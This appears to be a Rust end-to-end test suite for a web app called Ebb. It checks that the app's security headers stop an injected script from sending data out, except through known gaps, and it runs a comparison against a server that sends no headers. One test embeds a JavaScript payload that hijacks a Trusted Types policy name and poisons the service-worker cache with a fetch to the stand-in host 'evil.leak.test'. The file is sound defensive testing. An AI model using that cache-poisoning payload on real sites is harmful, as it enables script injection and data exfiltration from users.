//! A hostile script in our own page cannot send data out under the real headers, except by the ways
//! of `gaps.toml`, which no header closes in that engine.

use std::collections::BTreeSet;
use std::io::Write as _;

use anyhow::{Context as _, Result, ensure};
use ebb_e2e::{Browser, Ears, Network, Place, apart, embed_site, in_every_engine};
use xtask::server::Site;

use super::attacker::{Attack, CACHE_PAGE, armed, bodiless};
use super::gaps::{closed, gaps};

in_every_engine! {
    no_way_out_of_the_app_or_the_embed_but_the_known_gaps
    neither_a_page_nor_a_worker_without_the_policy_comes_out_of_the_kept_files
}

/// The app, which the attack script does not need: without it each of the many loads is faster.
const APP: &str = "ebb.*.wasm";

/// The least number of ways that are tried, and how many of them at least must work without
/// headers: of those that stay on the page, and of those that leave it.
const WAYS: usize = 120;
const LEAD_OUT: usize = 60;
const LEAVE: usize = 30;

/// The embed and the app in one browser, and in another the negative control, a server that sends no security
/// headers. Of the embed only the ways that stay on the page are tried: the headers that bear on leaving
/// a page are those of the app, which `the_embed_may_lead_nowhere_else_than_the_app_and_to_it` compares.
async fn no_way_out_of_the_app_or_the_embed_but_the_known_gaps(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let gaps = gaps(browser)?;
    let ways = |sometimes: bool| {
        let its = gaps.iter().filter(move |gap| sometimes || !gap.sometimes);
        its.flat_map(|gap| gap.ways.clone()).collect::<BTreeSet<_>>()
    };
    let (known, always) = (ways(true), ways(false));
    let (mut app, embed) = (Site::default(), armed(&embed_site()?).without(APP));
    let place = Place::open(|site| {
        app = site;
        embed
    })?;
    let mut attack = Attack::on(browser, place, &Ears::open()?).await?;
    let (stays, leaves) = (attack.ways(false).await?, attack.ways(true).await?);
    ensure!(stays.len() + leaves.len() >= WAYS, "{} ways", stays.len() + leaves.len());
    attack.starts(&stays).await?;
    attack.settles().await?;
    let mut reached = only_known(&attack, &known).context("the embed")?;

    let site = armed(&app).without("/sw.js").without(APP);
    let short = bodiless(&site);
    attack.moves_to(site).await?;
    attack.starts(&stays).await?;
    attack.settles().await?;
    attack.person.place.ebb.publish(short);
    // Wait for each way that is known to work before the next one is tried.
    attack.leaves(&leaves, |way| always.contains(way)).await?;
    attack.settles().await?;
    reached.extend(only_known(&attack, &known).context("the app")?);
    // A newer browser may have closed a gap. That is no fault of Ebb, so the test only prints it.
    let was_tried = |way: &String| stays.contains(way) || leaves.contains(way);
    let always = always.into_iter().filter(was_tried).collect();
    for line in closed(browser, &always, &reached) {
        // The test harness captures what a passing test prints with `eprintln!`.
        writeln!(std::io::stderr(), "{line}")?;
    }

    without_the_headers_most_ways_lead_out(&mut attack, bare(&app), &stays).await?;
    // In the other engines several of the ways that leave the page are known gaps.
    if browser == Browser::Chromium {
        let bare = bodiless(&bare(&app));
        without_the_headers_most_ways_lead_away(&mut attack, bare, &leaves).await?;
    }
    Ok(())
}

/// The ways that have led out, which must be among these.
fn only_known(attack: &Attack, known: &BTreeSet<String>) -> Result<BTreeSet<String>> {
    let reached = attack.reached();
    let new: Vec<_> = reached.difference(known).collect();
    ensure!(new.is_empty(), "ways out that are not listed: {new:?}");
    Ok(reached)
}

/// The negative control: the same script on a server that sends no security headers.
async fn without_the_headers_most_ways_lead_out(
    attack: &mut Attack,
    bare: Site,
    stays: &[String],
) -> Result<()> {
    attack.moves_to_in_another_browser(bare).await?;
    attack.starts(stays).await?;
    attack.settles().await?;
    let reached = attack.reached();
    let reached: Vec<_> = stays.iter().filter(|way| reached.contains(*way)).collect();
    ensure!(reached.len() >= LEAD_OUT, "only {} ways lead out: {reached:?}", reached.len());
    Ok(())
}

/// The negative control for ways that leave the page.
async fn without_the_headers_most_ways_lead_away(
    attack: &mut Attack,
    bare: Site,
    leaves: &[String],
) -> Result<()> {
    attack.moves_to(bare).await?;
    attack.leaves(leaves, |_| false).await?;
    attack.settles().await?;
    let reached = attack.reached();
    let reached: Vec<_> = leaves.iter().filter(|way| reached.contains(*way)).collect();
    ensure!(reached.len() >= LEAVE, "only {} ways lead away: {reached:?}", reached.len());
    Ok(())
}

/// The site with the attack script, and without the security headers. Its pages differ from those with headers:
/// a browser that is told "not modified" keeps the headers of the page that it has.
fn bare(site: &Site) -> Site {
    let names = [
        "Content-Security-Policy",
        "Connection-Allowlist",
        "Cross-Origin-Embedder-Policy",
        "Integrity-Policy",
        "Permissions-Policy",
        "X-DNS-Prefetch-Control",
    ];
    let site = armed(site).without("/sw.js").without(APP);
    let site = site.replace("<title>", "<!-- without headers --><title>");
    names.into_iter().fold(site, Site::without_header)
}

async fn neither_a_page_nor_a_worker_without_the_policy_comes_out_of_the_kept_files(
    browser: Browser,
) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let ears = Ears::open()?;
    no_page_comes_out(browser, &ears).await?;
    no_worker_comes_out(browser, &ears).await
}

async fn no_page_comes_out(browser: Browser, ears: &Ears) -> Result<()> {
    let place = Place::open(|site| armed(&site).renewed())?;
    let attack = Attack::on(browser, place, ears).await?;
    // The script has taken the Trusted Types name `ebb`, so it registers the service worker in
    // Ebb's place.
    attack.starts(&[CACHE_PAGE.to_owned()]).await?;
    // The browser shows the real Spanish page, not the one that the script put into the cache.
    attack.person.until("return document.documentElement.lang === 'es'").await?;
    attack.person.until_ready().await?;
    attack.settles().await?;
    let reached = attack.reached();
    ensure!(reached.is_empty(), "{reached:?}");
    Ok(())
}

/// The policy allows one address for workers; a script that is put into the cache under it is not
/// run.
async fn no_worker_comes_out(browser: Browser, ears: &Ears) -> Result<()> {
    let script = "
        addEventListener('load', async () => {
            const file = self.trustedTypes?.createPolicy('ebb', { createScriptURL: String }) ?? { createScriptURL: String };
            await navigator.serviceWorker.register(file.createScriptURL('/sw.js'));
            await navigator.serviceWorker.ready;
            const headers = { 'Content-Type': 'text/javascript', 'Cross-Origin-Embedder-Policy': 'require-corp' };
            const evil = new Response('fetch(\"https://evil.leak.test/\", { mode: \"no-cors\" })', { headers });
            for (const name of await caches.keys()) await (await caches.open(name)).put('/sw.js', evil.clone());
            if (!navigator.serviceWorker.controller) return location.reload();
            try { window.evil = new Worker(file.createScriptURL('/sw.js')); } catch {}
            window.tried = true;
        });";
    let armed = |site: Site| {
        let boot = site.path_of("/boot.*.js");
        let text = [site.text_of(&boot), script.to_owned()].concat();
        site.renamed(&boot, text.into_bytes()).renewed()
    };
    let attack =
        Attack::at(browser, Place::open(armed)?, ears, "return window.tried === true").await?;
    attack.settles().await?;
    let reached = attack.reached();
    ensure!(reached.is_empty(), "{reached:?}");
    Ok(())
}
